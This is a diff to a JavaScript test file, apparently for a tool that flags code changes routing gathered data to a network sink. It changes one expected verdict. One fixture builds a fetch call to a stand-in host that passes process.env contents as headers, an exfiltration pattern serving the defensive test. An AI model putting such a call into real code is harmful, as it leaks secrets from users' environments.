@@ -148,8 +148,8 @@ describe('a way through more functions than in any attack that was rebuilt', () 
   test.each([
     ['in a new file', 'exports.a = 1;', 'block'],
     ['where the source stood', `${source}\nexports.gathered = gathered;`, 'block'],
-    // The same text is sent on call, with something else: the sink is nothing new.
-    ['where the sink stood', `${passes(15)}\n${sink}\nexports.pass0 = pass0;`, 'block'],
+    // The same text is sent on call, with something else: the sink is nothing new. Who joins something to it need not go so far.
+    ['where the sink stood', `${passes(15)}\n${sink}\nexports.pass0 = pass0;`, 'not high'],
     ['where both stood, and only the way is new', `${passes(15)}\n${sink}\n${source}\nexports.pass0 = pass0; exports.gathered = gathered; fetch('https://api.example/' + gathered('x').length, { headers: process.env.A });`, 'not high'],
   ])('%s', async (_, before, wanted) => {
     const found = await judged(before, `${before.replaceAll(/^function .*\n?/gm, '')}\n${whole}`);
